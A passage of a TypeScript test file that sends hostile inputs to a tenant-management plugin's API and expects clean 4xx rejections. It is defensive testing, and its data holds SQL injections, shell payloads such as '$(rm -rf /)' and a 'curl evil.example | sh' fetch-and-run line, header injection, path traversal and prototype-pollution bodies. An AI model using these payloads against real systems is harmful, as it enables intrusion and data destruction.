import { mockServices, startTestBackend } from '@backstage/backend-test-utils';
import { ConfigReader } from '@backstage/config';
import { ClusterRegistry } from '@tenant-platform/backstage-plugin-tenants-node';
import { Knex } from 'knex';
import request from 'supertest';
import { specInputFor } from '../__testUtils__/specs';
import { rowCounts } from '../__testUtils__/rowCounts';
import {
  asService,
  asUser,
  registerTenant,
  reportPhases,
} from '../__testUtils__/tenantApi';
import {
  requireTestKubeconfigPath,
  tenantNamespaceNames,
} from '../__testUtils__/testCluster';
import { createTestDatabases } from '../__testUtils__/testDatabases';
import { tenantsPlugin } from '../plugin';

/*
 * Hostile input against every route that takes input: each request must be
 * answered with a specific 4xx and a message a person can read (never a 500
 * or a stack trace), and afterwards no table holds anything new but failure
 * audit events, and the cluster has no new tenant namespace.
 */

jest.setTimeout(120_000);

const kubeconfigPath = requireTestKubeconfigPath();
const { databases, ids } = createTestDatabases();

const ADMIN = 'user:default/platform-admin';
/** Files the fixture change request: a platform admin may not approve their own. */
const REQUESTER = 'user:default/tenant-admin';
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';
const CYRILLIC_A = '\u0430';
const GREEK_OMICRON = '\u03bf';
const ZERO_WIDTH_SPACE = '\u200b';
const RIGHT_TO_LEFT_OVERRIDE = '\u202e';
const NUL = '\u0000';
const LONG = 'a'.repeat(10_000);
const ONE_MEGABYTE = 'a'.repeat(1024 * 1024);
const TRAVERSAL = '..%2F..%2Fetc%2Fpasswd';
/** A staged password's name of the form the template gives, never staged. */
const STAGED_WAREHOUSE =
  'staged-password-7c9e6679-7425-40de-944b-e07fc1f90ae7-warehouse';

const config = {
  tenants: {
    clusters: [
      {
        name: 'local',
        provider: 'azure',
        regions: ['westeurope'],
        preferred: true,
        kubeconfigPath,
      },
    ],
  },
};

const dataSource = {
  name: 'warehouse',
  type: 'postgresql',
  host: 'db.probe.example',
  port: 5432,
  database: 'analytics',
  user: 'reader',
};

/** A valid spec (the control test shows it) with every section filled in. */
function probeSpec(): Record<string, any> {
  return {
    ...specInputFor('probe'),
    dataSources: [{ ...dataSource, passwordSecret: 'warehousePassword' }],
    security: {
      authMethod: 'oidc',
      mfaPolicy: 'required-all',
      allowedCidrs: ['203.0.113.0/24'],
    },
  };
}

/** The probe spec with one value replaced, at a dotted path such as `details.slug`. */
function specWith(path: string, value: unknown): Record<string, any> {
  const spec = probeSpec();
  const keys = path.split('.');
  const parent = keys
    .slice(0, -1)
    .reduce((node: Record<string, any>, key) => node[key], spec);
  parent[keys[keys.length - 1]] = value;
  return spec;
}

const withSlug = (slug: unknown) => ({ spec: specWith('details.slug', slug) });
const withName = (name: unknown) => ({ spec: specWith('details.name', name) });
const withCidr = (cidr: unknown) => ({
  spec: specWith('security.allowedCidrs', [cidr]),
});
const withSource = (field: string, value: unknown) => ({
  spec: specWith('dataSources', [{ ...dataSource, [field]: value }]),
});
const sourceWith = (field: string, value: unknown) => ({
  ...dataSource,
  [field]: value,
});

/** JSON text of a body, for what `send()` of an object cannot express (own `__proto__` keys). */
const json = (text: string) => ({ type: 'application/json', data: text });

interface HostileRequest {
  /** What the request tries. */
  name: string;
  method: 'get' | 'post';
  /**
   * Under /api/tenants; `{tenant}` is a ready tenant with a pending change
   * request `{changeRequest}`, `{provisioning}` a tenant whose run is under way.
   */
  path: string;
  /** Sent as JSON. */
  body?: unknown;
  /** Sent as is, with its content type. */
  raw?: { type: string; data: string };
  /** The scaffolder's service credentials instead of a platform admin's. */
  asService?: boolean;
  status: 400 | 404 | 409 | 413 | 415;
  /** A fragment of `error.message`. */
  message: string;
}

const SLUG_FORMAT = 'Slug must start with a lowercase letter';
const NAME_CHARACTERS = 'Tenant name must not contain';

const cases: HostileRequest[] = [
  // Registration: injection and look-alikes in the slug.
  ...(
    [
      ['SQL injection', "acme'; DROP TABLE tenants;--"],
      ['SQL tautology', "x' OR '1'='1"],
      ['shell command substitution', '$(rm -rf /)'],
      ['shell backticks', '`id`'],
      ['scaffolder template expression', '${{ secrets.token }}'],
      ['Nunjucks expression', '{{ 7*7 }}'],
      ['a Cyrillic look-alike letter', `${CYRILLIC_A}cme`],
      ['a Greek look-alike letter', `g${GREEK_OMICRON}${GREEK_OMICRON}gle`],
      ['full-width letters', '\uff41\uff43\uff4d\uff45'],
      ['a zero-width space', `ac${ZERO_WIDTH_SPACE}me`],
      ['a right-to-left override', `acme${RIGHT_TO_LEFT_OVERRIDE}lmth`],
      ['an emoji', 'acme\u{1f680}'],
      ['a NUL byte', `acme${NUL}`],
      ['path traversal', '../../etc/passwd'],
    ] as const
  ).map(
    ([what, slug]): HostileRequest => ({
      name: `register: slug with ${what}`,
      method: 'post',
      path: '/v1/tenants',
      body: withSlug(slug),
      status: 400,
      message: `spec.details.slug: ${SLUG_FORMAT}`,
    }),
  ),
  {
    name: 'register: reserved slug (the platform admins group)',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug('platform'),
    status: 400,
    message: "Slug 'platform' is reserved",
  },
  {
    name: 'register: 10 000-character slug',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug(LONG),
    status: 400,
    message: 'Slug must be at most 40 characters',
  },
  {
    name: 'register: slug is a number',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug(1234),
    status: 400,
    message:
      'spec.details.slug: Invalid input: expected string, received number',
  },
  {
    name: 'register: slug is an array',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug(['acme']),
    status: 400,
    message:
      'spec.details.slug: Invalid input: expected string, received array',
  },
  {
    name: 'register: slug is null',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug(null),
    status: 400,
    message: 'spec.details.slug: Invalid input: expected string, received null',
  },
  // Registration: the tenant name.
  ...(
    [
      ['SQL injection', "Robert'); DROP TABLE tenants;--"],
      ['shell command substitution', 'Acme $(curl evil.example | sh)'],
      ['a scaffolder template expression', 'Acme ${{ secrets.token }}'],
      ['a Nunjucks expression', 'Acme {{ 7*7 }}'],
      ['markup', '<script>alert(1)</script>'],
      ['a NUL byte', `Acme${NUL}Corp`],
      ['a terminal escape sequence', 'Acme\u001b[31m Corp'],
      ['a line break', 'Acme\nCorp'],
      ['a right-to-left override', `Acme ${RIGHT_TO_LEFT_OVERRIDE}gpj.exe`],
      ['a zero-width space', `Ac${ZERO_WIDTH_SPACE}me`],
    ] as const
  ).map(
    ([what, name]): HostileRequest => ({
      name: `register: name with ${what}`,
      method: 'post',
      path: '/v1/tenants',
      body: withName(name),
      status: 400,
      message: `spec.details.name: ${NAME_CHARACTERS}`,
    }),
  ),
  {
    name: 'register: 10 000-character name',
    method: 'post',
    path: '/v1/tenants',
    body: withName(LONG),
    status: 400,
    message: 'Tenant name must be at most 100 characters',
  },
  {
    name: 'register: name of blanks only',
    method: 'post',
    path: '/v1/tenants',
    body: withName('      '),
    status: 400,
    message: 'Tenant name must be at least 3 characters',
  },
  {
    name: 'register: name is an object',
    method: 'post',
    path: '/v1/tenants',
    body: withName({ $ne: null }),
    status: 400,
    message: 'spec.details.name: Invalid input: expected string',
  },
  {
    name: 'register: description with a right-to-left override',
    method: 'post',
    path: '/v1/tenants',
    body: {
      spec: specWith(
        'details.description',
        `Analytics ${RIGHT_TO_LEFT_OVERRIDE}gpj.exe`,
      ),
    },
    status: 400,
    message: 'spec.details.description: Description must not contain control',
  },
  // Registration: emails, CIDRs, data sources.
  ...(
    [
      ['a header injection', 'admin@acme.example\r\nBcc: all@evil.example'],
      ['no domain', 'admin@'],
      ['two addresses', 'admin@acme.example,evil@evil.example'],
      ['a Cyrillic look-alike letter', `admin@${CYRILLIC_A}cme.example`],
      ['10 000 characters', `${LONG}@acme.example`],
    ] as const
  ).map(
    ([what, email]): HostileRequest => ({
      name: `register: admin email with ${what}`,
      method: 'post',
      path: '/v1/tenants',
      body: { spec: specWith('details.adminEmail', email) },
      status: 400,
      message: 'spec.details.adminEmail: Admin email must',
    }),
  ),
  ...(
    [
      ['10.0.0.0/33', ': an IPv4 prefix length is at most 32'],
      ['300.1.1.1/24', ' does not start with a valid IPv4 or IPv6 address'],
      ['::/129', ': an IPv6 prefix length is at most 128'],
      ['10.0.0.0', ' is not a CIDR range'],
      ['0.0.0.0/0; rm -rf /', ' is not a CIDR range'],
    ] as const
  ).map(
    ([cidr, message]): HostileRequest => ({
      name: `register: allowed CIDR ${cidr}`,
      method: 'post',
      path: '/v1/tenants',
      body: withCidr(cidr),
      status: 400,
      message: `spec.security.allowedCidrs[0]: '${cidr}'${message}`,
    }),
  ),
  {
    name: 'register: allowed CIDRs as a string instead of an array',
    method: 'post',
    path: '/v1/tenants',
    body: { spec: specWith('security.allowedCidrs', '10.0.0.0/8') },
    status: 400,
    message:
      'spec.security.allowedCidrs: Allowed IP ranges must be a list of CIDRs',
  },
  {
    name: 'register: data source host with a shell command',
    method: 'post',
    path: '/v1/tenants',
    body: withSource('host', 'db.example.com; rm -rf /'),
    status: 400,
    message:
      'spec.dataSources[0].host: Host must be a host name or an IP address',
  },
  {
    name: 'register: data source port is a string',
    method: 'post',
    path: '/v1/tenants',
    body: withSource('port', '5432'),
    status: 400,
    message: 'spec.dataSources[0].port: Invalid input: expected number',
  },
  {
    name: 'register: 21 data sources',
    method: 'post',
    path: '/v1/tenants',
    body: {
      spec: specWith(
        'dataSources',
        Array.from({ length: 21 }, (_, i) => ({
          ...dataSource,
          name: `s${i}`,
        })),
      ),
    },
    status: 400,
    message: 'spec.dataSources: Too big',
  },
  // Registration: the shape of the body.
  {
    name: 'register: infrastructure is an array',
    method: 'post',
    path: '/v1/tenants',
    body: { spec: specWith('infrastructure', ['azure']) },
    status: 400,
    message:
      'spec.infrastructure: Invalid input: expected object, received array',
  },
  {
    name: 'register: spec is null',
    method: 'post',
    path: '/v1/tenants',
    body: { spec: null },
    status: 400,
    message: 'spec: Invalid input: expected object, received null',
  },
  {
    name: 'register: no spec',
    method: 'post',
    path: '/v1/tenants',
    body: { cluster: 'local' },
    status: 400,
    message: 'spec: Invalid input: expected object, received undefined',
  },
  {
    name: 'register: no slug',
    method: 'post',
    path: '/v1/tenants',
    body: withSlug(undefined),
    status: 400,
    message:
      'spec.details.slug: Invalid input: expected string, received undefined',
  },
  {
    name: 'register: unknown top-level field',
    method: 'post',
    path: '/v1/tenants',
    body: { ...withSlug('probe'), state: 'ready' },
    status: 400,
    message: "state: Unknown field 'state'",
  },
  {
    name: 'register: unknown field in details',
    method: 'post',
    path: '/v1/tenants',
    body: { spec: specWith('details.isPlatformAdmin', true) },
    status: 400,
    message: "spec.details.isPlatformAdmin: Unknown field 'isPlatformAdmin'",
  },
  {
    name: 'register: __proto__ in the body',
    method: 'post',
    path: '/v1/tenants',
    raw: json(
      `{"spec":${JSON.stringify(probeSpec())},"__proto__":{"isAdmin":true}}`,
    ),
    status: 400,
    message: "__proto__: Unknown field '__proto__'",
  },
  {
    name: 'register: __proto__ in the spec details',
    method: 'post',
    path: '/v1/tenants',
    raw: json(
      JSON.stringify({ spec: probeSpec() }).replace(
        '"details":{',
        '"details":{"__proto__":{"isAdmin":true},',
      ),
    ),
    status: 400,
    message: "spec.details.__proto__: Unknown field '__proto__'",
  },
  {
    name: 'register: constructor.prototype in the spec',
    method: 'post',
    path: '/v1/tenants',
    body: {
      spec: specWith('constructor', { prototype: { isAdmin: true } }),
    },
    status: 400,
    message: "spec.constructor: Unknown field 'constructor'",
  },
  {
    name: 'register: cluster with path traversal',
    method: 'post',
    path: '/v1/tenants',
    body: { ...withSlug('probe'), cluster: '../../etc/passwd' },
    status: 400,
    message: "cluster: Cluster must be letters, digits, '.', '_' and '-'",
  },
  {
    name: 'register: task id that walks up the scaffolder API',
    method: 'post',
    path: '/v1/tenants',
    body: { ...withSlug('probe'), taskId: '..' },
    status: 400,
    message: "taskId: Task id must be letters, digits, '.', '_' and '-'",
  },
  {
    name: 'register: 10 000-character task id',
    method: 'post',
    path: '/v1/tenants',
    body: { ...withSlug('probe'), taskId: LONG },
    status: 400,
    message: 'Task id must be at most 255 characters',
  },
  {
    name: 'register: body nested 5 000 levels deep',
    method: 'post',
    path: '/v1/tenants',
    raw: json(`{"spec":${'['.repeat(5000)}${']'.repeat(5000)}}`),
    status: 400,
    message: 'spec: Invalid input: expected object, received array',
  },
  {
    name: 'register: a JSON array as the body',
    method: 'post',
    path: '/v1/tenants',
    raw: json('[]'),
    status: 400,
    message: 'Invalid request body',
  },
  {
    name: 'register: malformed JSON',
    method: 'post',
    path: '/v1/tenants',
    raw: json('{"spec":'),
    status: 400,
    message: 'JSON',
  },
  {
    name: 'register: 1 MB body',
    method: 'post',
    path: '/v1/tenants',
    body: withName(ONE_MEGABYTE),
    status: 413,
    message: 'request entity too large',
  },
  {
    name: 'register: text/plain body',
    method: 'post',
    path: '/v1/tenants',
    raw: { type: 'text/plain', data: JSON.stringify({ spec: probeSpec() }) },
    status: 415,
    message:
      "Content-Type 'text/plain' is not supported: send JSON (application/json)",
  },
  {
    name: 'register: form-encoded body',
    method: 'post',
    path: '/v1/tenants',
    raw: {
      type: 'application/x-www-form-urlencoded',
      data: 'spec[details][slug]=probe',
    },
    status: 415,
    message:
      "Content-Type 'application/x-www-form-urlencoded' is not supported",
  },
  {
    name: 'register: JSON in an unsupported charset',
    method: 'post',
    path: '/v1/tenants',
    raw: { type: 'application/json; charset=iso-8859-1', data: '{}' },
    status: 415,
    message: 'unsupported charset "ISO-8859-1"',
  },
  // Dry run (it would touch the cluster): refused before it does.
  {
    name: 'dry run: SQL injection in the slug',
    method: 'post',
    path: '/v1/tenants/dry-run',
    body: withSlug("acme'; DROP TABLE tenants;--"),
    status: 400,
    message: `spec.details.slug: ${SLUG_FORMAT}`,
  },
  {
    name: 'dry run: NUL byte in the name',
    method: 'post',
    path: '/v1/tenants/dry-run',
    body: withName(`Acme${NUL}`),
    status: 400,
    message: `spec.details.name: ${NAME_CHARACTERS}`,
  },
  {
    name: 'dry run: region with path traversal',
    method: 'post',
    path: '/v1/tenants/dry-run',
    body: { spec: specWith('infrastructure.region', '../../../etc/passwd') },
    status: 400,
    message: "No azure cluster serves region '../../../etc/passwd'",
  },
  {
    name: 'dry run: cluster with a shell command',
    method: 'post',
    path: '/v1/tenants/dry-run',
    body: { ...withSlug('probe'), cluster: '$(rm -rf /)' },
    status: 400,
    message: "cluster: Cluster must be letters, digits, '.', '_' and '-'",
  },
  {
    name: 'dry run: unknown field',
    method: 'post',
    path: '/v1/tenants/dry-run',
    body: { ...withSlug('probe'), apply: true },
    status: 400,
    message: "apply: Unknown field 'apply'",
  },
  // Data source connection tests.
  {
    name: 'data source test: host with a shell command',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('host', '$(rm -rf /)'),
    status: 400,
    message: 'host: Host must be a host name or an IP address',
  },
  {
    name: 'data source test: host is a Unix socket directory',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('host', '/var/run/postgresql'),
    status: 400,
    message: 'host: Host must be a host name or an IP address',
  },
  {
    name: 'data source test: host with credentials and another host',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('host', 'db.example.com:5432@evil.example'),
    status: 400,
    message: 'host: Host must be a host name or an IP address',
  },
  {
    name: 'data source test: user smuggling startup parameters with NUL bytes',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('user', `reader${NUL}options${NUL}-c log_statement=all`),
    status: 400,
    message: 'user: User must not contain control characters',
  },
  {
    name: 'data source test: database with a NUL byte',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('database', `analytics${NUL}`),
    status: 400,
    message: 'database: Database must not contain control characters',
  },
  {
    name: 'data source test: unknown type',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('type', 'oracle'),
    status: 400,
    message: 'type: Invalid option',
  },
  {
    name: 'data source test: negative port',
    method: 'post',
    path: '/v1/data-sources/test',
    body: sourceWith('port', -1),
    status: 400,
    message: 'port: Too small',
  },
  {
    name: 'data source test: 2 000-character password',
    method: 'post',
    path: '/v1/data-sources/test',
    body: { ...dataSource, password: 'p'.repeat(2000) },
    status: 400,
    message: 'password: Password must be at most 1024 characters',
  },
  {
    name: 'data source test: TLS options smuggled in',
    method: 'post',
    path: '/v1/data-sources/test',
    body: { ...dataSource, ssl: { rejectUnauthorized: false } },
    status: 400,
    message: "ssl: Unknown field 'ssl'",
  },
  // Slug availability.
  ...(
    [
      ['SQL injection', "acme'%3B%20DROP%20TABLE%20tenants%3B--", SLUG_FORMAT],
      ['a Cyrillic look-alike letter', '%D0%B0cme', SLUG_FORMAT],
      ['path traversal', TRAVERSAL, SLUG_FORMAT],
      ['a NUL byte', 'acme%00', SLUG_FORMAT],
      ['10 000 characters', LONG, 'Slug must be at most 40 characters'],
    ] as const
  ).map(
    ([what, slug, message]): HostileRequest => ({
      name: `slug availability: ${what}`,
      method: 'get',
      path: `/v1/slugs/${slug}/availability`,
      status: 400,
      message,
    }),
  ),
  // Tenant list queries.
  ...(
    [
      [
        'SQL in limit',
        'limit=1;DROP%20TABLE%20tenants',
        'limit: limit must be a number',
      ],
      [
        'SQL in orderBy',
        'orderBy=name;DROP%20TABLE%20tenants',
        'orderBy: Invalid option',
      ],
      ['an operator object', 'limit[$gt]=0', 'limit: limit must be a number'],
      [
        'a repeated parameter',
        'state=ready&state=failed',
        'state: Invalid option',
      ],
      ['an infinite offset', 'offset=1e400', 'offset: offset must be a number'],
      [
        'a 10 000-character search',
        `search=${LONG}`,
        'search must be at most 100 characters',
      ],
      ['an unknown parameter', 'where=1%3D1', "where: Unknown field 'where'"],
      [
        'a NUL byte in the search',
        'search=acme%00',
        'search must not contain NUL characters',
      ],
      [
        'a NUL byte in the cluster',
        'cluster=local%00',
        'cluster: cluster must be letters, digits',
      ],
      [
        'SQL in the drift state',
        "drift=unchecked'%20OR%20'1'%3D'1",
        'drift: drift must be one of in_sync, drifted, unknown, unchecked',
      ],
      [
        'a repeated drift state',
        'drift=in_sync&drift=drifted',
        'drift: drift must be one of in_sync, drifted, unknown, unchecked',
      ],
    ] as const
  ).map(
    ([what, query, message]): HostileRequest => ({
      name: `list tenants: ${what}`,
      method: 'get',
      path: `/v1/tenants?${query}`,
      status: 400,
      message,
    }),
  ),
  // Tenant ids in paths.
  ...(
    [
      ['get', '', TRAVERSAL],
      ['get', '', '%00'],
      ['get', '', LONG],
      ['get', '', `${UNKNOWN_ID}%00`],
      ['get', '', UNKNOWN_ID.replace('a', CYRILLIC_A).replace('0', '%D0%9E')],
      ['get', '/status', '1%20OR%201%3D1'],
      ['get', '/audit', TRAVERSAL],
      ['get', '/change-requests', '%2e%2e'],
      ['get', '/drift', TRAVERSAL],
      ['post', '/drift/check', '%00'],
      ['post', '/drift/check', `${UNKNOWN_ID}%20OR%201%3D1`],
      ['post', '/retry', TRAVERSAL],
      ['post', '/rollback', '%00'],
      ['post', '/change-requests', TRAVERSAL],
      ['post', '/change-requests/preview', '%00'],
      ['post', '/repair', TRAVERSAL],
      ['post', '/phases/namespace/events', `${UNKNOWN_ID}'--`],
    ] as const
  ).map(
    ([method, suffix, id]): HostileRequest => ({
      name: `${method} /v1/tenants/:id${suffix} with id ${decodeURIComponent(
        id,
      ).slice(0, 40)}`,
      method,
      path: `/v1/tenants/${id}${suffix}`,
      body: method === 'post' ? { type: 'started' } : undefined,
      asService: suffix.startsWith('/phases'),
      status: 400,
      message: 'Invalid tenant id: Tenant id must be a UUID',
    }),
  ),
  {
    name: 'get /v1/tenants/:id of an unknown tenant',
    method: 'get',
    path: `/v1/tenants/${UNKNOWN_ID}`,
    status: 404,
    message: `No tenant with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'get /v1/tenants/:id/drift of an unknown tenant',
    method: 'get',
    path: `/v1/tenants/${UNKNOWN_ID}/drift`,
    status: 404,
    message: `No tenant with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'drift check of an unknown tenant',
    method: 'post',
    path: `/v1/tenants/${UNKNOWN_ID}/drift/check`,
    status: 404,
    message: `No tenant with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'drift check on another cluster than the tenant’s',
    method: 'post',
    path: '/v1/tenants/{tenant}/drift/check',
    body: { cluster: '../../etc/passwd' },
    status: 400,
    message: "cluster: Unknown field 'cluster'",
  },
  {
    name: 'audit of a tenant with a negative limit',
    method: 'get',
    path: '/v1/tenants/{tenant}/audit?limit=-1',
    status: 400,
    message: 'limit must be at least 1',
  },
  {
    name: 'retry with a task id array',
    method: 'post',
    path: '/v1/tenants/{tenant}/retry',
    body: { taskId: ['task-1'] },
    status: 400,
    message: 'taskId: Invalid input: expected string, received array',
  },
  {
    name: 'retry with an oversize secret',
    method: 'post',
    path: '/v1/tenants/{tenant}/retry',
    body: { secrets: { warehousePassword: 'p'.repeat(5000) } },
    status: 400,
    message: 'Secret values must be at most 4096 characters',
  },
  {
    name: 'rollback with cancel as a string',
    method: 'post',
    path: '/v1/tenants/{tenant}/rollback',
    body: { cancel: 'yes' },
    status: 400,
    message: 'cancel: Invalid input: expected boolean, received string',
  },
  // Phase events.
  {
    name: 'phase event: phase id with path traversal',
    method: 'post',
    path: `/v1/tenants/{provisioning}/phases/${TRAVERSAL}/events`,
    body: { type: 'log', message: 'hi' },
    asService: true,
    status: 400,
    message: 'Phase id must be one of namespace',
  },
  {
    name: 'phase event: phase id with a NUL byte',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace%00/events',
    body: { type: 'log', message: 'hi' },
    asService: true,
    status: 400,
    message: 'Phase id must be one of namespace',
  },
  {
    name: 'phase event: log message with a NUL byte',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace/events',
    body: { type: 'log', message: `working${NUL}` },
    asService: true,
    status: 400,
    message: 'message: Message must not contain NUL characters',
  },
  {
    name: 'phase event: 10 001-character message',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace/events',
    body: { type: 'log', message: 'm'.repeat(10_001) },
    asService: true,
    status: 400,
    message: 'Message must be at most 10000 characters',
  },
  {
    name: 'phase event: operator object as the type',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace/events',
    body: { type: { $ne: null } },
    asService: true,
    status: 400,
    message: 'type: Invalid option',
  },
  {
    name: 'phase event: unknown level and field',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace/events',
    body: { type: 'log', message: 'hi', level: 'debug', runId: 'x' },
    asService: true,
    status: 400,
    message: "runId: Unknown field 'runId'",
  },
  {
    name: 'phase event: an array of events',
    method: 'post',
    path: '/v1/tenants/{provisioning}/phases/namespace/events',
    body: [{ type: 'completed' }],
    asService: true,
    status: 400,
    message: 'Invalid input: expected object, received array',
  },
  // Change requests.
  {
    name: 'change request: another region',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { region: 'eu-west-1' }, reason: 'closer' },
    status: 400,
    message: 'The region cannot change in place',
  },
  {
    name: 'change request: an allowed range that is no CIDR',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { allowedCidrs: ['10.0.0.0/33'] }, reason: 'office' },
    status: 400,
    message: "'10.0.0.0/33': an IPv4 prefix length is at most 32",
  },
  {
    name: 'change preview: an unknown field beside the changes',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests/preview',
    body: { changes: { resourceTier: 'large' }, apply: true },
    status: 400,
    message: "Unknown field 'apply'",
  },
  {
    name: 'repair: a reason that is not text',
    method: 'post',
    path: '/v1/tenants/{tenant}/repair',
    body: { reason: { $ne: null } },
    status: 400,
    message: 'reason',
  },
  {
    name: 'change request: unknown resource tier',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { resourceTier: 'unlimited' }, reason: 'more' },
    status: 400,
    message: 'Resource tier must be one of small, medium, large',
  },
  {
    name: 'change request: module flag as a string',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: 'true' } }, reason: 'more' },
    status: 400,
    message: 'ml must be true (enable) or false (disable)',
  },
  {
    name: 'change request: unknown module',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { root: true } }, reason: 'more' },
    status: 400,
    message: "changes.modules.root: Unknown field 'root'",
  },
  {
    name: 'change request: changes as an array',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: [], reason: 'more' },
    status: 400,
    message: 'changes: Invalid input: expected object, received array',
  },
  {
    name: 'change request: reason is a number',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: true } }, reason: 42 },
    status: 400,
    message: 'reason: A reason is required',
  },
  {
    name: 'change request: no reason',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: true } } },
    status: 400,
    message: 'reason: A reason is required',
  },
  {
    name: 'change request: 2 001-character reason',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: true } }, reason: 'r'.repeat(2001) },
    status: 400,
    message: 'Reason must be at most 2000 characters',
  },
  {
    name: 'change request: 1 MB reason',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: true } }, reason: ONE_MEGABYTE },
    status: 413,
    message: 'request entity too large',
  },
  {
    name: 'change request: reason with a NUL byte',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { modules: { ml: true } }, reason: `more${NUL}` },
    status: 400,
    message: 'reason: Reason must not contain NUL characters',
  },
  {
    name: 'change request: filed as already approved',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: { modules: { ml: true } },
      reason: 'more',
      status: 'approved',
    },
    status: 400,
    message: "status: Unknown field 'status'",
  },
  {
    name: 'change request: __proto__ in the body',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    raw: json(
      '{"changes":{"modules":{"ml":true}},"reason":"more","__proto__":{"status":"approved"}}',
    ),
    status: 400,
    message: "__proto__: Unknown field '__proto__'",
  },
  // Data sources in change requests: never a password, only a staged one.
  {
    name: 'change request: a data source with its password',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: {
        dataSources: {
          add: [
            {
              ...dataSource,
              passwordSecret: STAGED_WAREHOUSE,
              password: 'hunter2',
            },
          ],
        },
      },
      reason: 'warehouse',
    },
    status: 400,
    message: "changes.dataSources.add[0].password: Unknown field 'password'",
  },
  {
    name: 'change request: a data source added without a staged password',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: { dataSources: { add: [dataSource] } },
      reason: 'warehouse',
    },
    status: 400,
    message:
      'changes.dataSources.add[0].passwordSecret: A new data source needs a password',
  },
  {
    name: "change request: a data source's password taken from another Secret",
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: {
        dataSources: {
          add: [{ ...dataSource, passwordSecret: 'postgres-credentials' }],
        },
      },
      reason: 'warehouse',
    },
    status: 400,
    message:
      "changes.dataSources.add[0].passwordSecret: passwordSecret must name the password staged for data source 'warehouse'",
  },
  {
    name: 'change request: a staged password that was never staged',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: {
        dataSources: {
          add: [{ ...dataSource, passwordSecret: STAGED_WAREHOUSE }],
        },
      },
      reason: 'warehouse',
    },
    status: 400,
    message: `changes.dataSources.add[0].passwordSecret: No password is staged as '${STAGED_WAREHOUSE}'`,
  },
  {
    name: 'change request: a data-source host that is a socket path',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: {
        dataSources: {
          add: [
            {
              ...dataSource,
              host: '/var/run/postgresql',
              passwordSecret: STAGED_WAREHOUSE,
            },
          ],
        },
      },
      reason: 'warehouse',
    },
    status: 400,
    message:
      'changes.dataSources.add[0].host: Host must be a host name or an IP address',
  },
  {
    name: 'change request: a data-source user with a NUL byte',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: {
        dataSources: { edit: [{ name: 'warehouse', user: `reader${NUL}` }] },
      },
      reason: 'warehouse',
    },
    status: 400,
    message:
      'changes.dataSources.edit[0].user: User must not contain control characters',
  },
  {
    name: 'change request: editing a data source the tenant does not have',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: {
      changes: { dataSources: { edit: [{ name: 'warehouse', port: 5433 }] } },
      reason: 'warehouse',
    },
    status: 400,
    message:
      "changes.dataSources.edit[0].name: Tenant 'ready' has no data source named 'warehouse'",
  },
  {
    name: 'change preview: a data-source name with a shell injection',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests/preview',
    body: {
      changes: { dataSources: { remove: ['$(rm -rf /)'] } },
    },
    status: 400,
    message: 'changes.dataSources.remove[0]: Data source name must be',
  },
  {
    name: 'change request: data sources as text',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { dataSources: 'add warehouse' }, reason: 'warehouse' },
    status: 400,
    message: 'changes.dataSources: Invalid input: expected object',
  },
  {
    name: 'change request: __proto__ in a data source',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    raw: json(
      '{"changes":{"dataSources":{"edit":[{"name":"warehouse","port":5433,"__proto__":{"passwordSecret":"postgres-credentials"}}]}},"reason":"more"}',
    ),
    status: 400,
    message: "changes.dataSources.edit[0].__proto__: Unknown field '__proto__'",
  },
  ...(
    [
      ['approve', TRAVERSAL],
      ['reject', '%00'],
      ['approve', LONG],
      ['retry', `${UNKNOWN_ID}%20OR%201%3D1`],
      ['revert', TRAVERSAL],
    ] as const
  ).map(
    ([verb, id]): HostileRequest => ({
      name: `${verb} /v1/change-requests/:id with id ${decodeURIComponent(
        id,
      ).slice(0, 40)}`,
      method: 'post',
      path: `/v1/change-requests/${id}/${verb}`,
